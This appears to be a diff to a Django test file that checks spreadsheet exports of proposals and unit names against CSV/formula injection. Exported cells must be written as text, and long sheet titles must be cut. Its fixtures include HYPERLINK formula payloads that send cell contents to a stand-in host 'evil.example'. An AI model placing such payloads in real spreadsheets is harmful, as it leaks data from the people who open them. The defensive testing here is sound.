@@ -9,7 +9,7 @@ from openpyxl import Workbook, load_workbook
 
 from coordination import ledger, services
 from coordination.models import ActionItem, Proposal
-from coordination.spreadsheets import append_row, workbook_bytes
+from coordination.spreadsheets import append_row, table_workbook, workbook_bytes
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
@@ -67,11 +67,13 @@ def test_a_progress_report_with_a_formula_is_text_in_the_ledger(item, liaisons, 
 
 
 @pytest.mark.django_db
-def test_proposal_figures_export_writes_a_formula_like_session_as_text(client, office_user, units):
-    session = '=HYPERLINK("http://evil.example","区第十九届人大")'
+def test_proposal_figures_export_writes_a_formula_like_unit_name_as_text(client, office_user, units):
+    name = '=HYPERLINK("http://evil.example","区民政局")'
+    units[5].short_name = name
+    units[5].save(update_fields=["short_name"])
     Proposal.objects.create(
         kind="npc",
-        session=session,
+        session="区第十九届人大",
         number="1",
         title="关于救助的建议",
         received_on=datetime.date(2026, 3, 1),
@@ -81,5 +83,10 @@ def test_proposal_figures_export_writes_a_formula_like_session_as_text(client, o
     response = client.get("/workbench/proposals/figures/", {"format": "xlsx"})
     assert response.status_code == 200
     assert formulas_in(response.content) == []
-    [cell] = [c for c in cells(response.content) if c.value == session]
+    [cell] = [c for c in cells(response.content) if c.value == name]
     assert cell.quotePrefix
+
+
+def test_a_long_sheet_title_is_cut_to_what_excel_opens():
+    data = table_workbook("Figures on suggestions and proposals", ["a"], [[1]])
+    assert load_workbook(io.BytesIO(data)).active.title == "Figures on suggestions and prop"
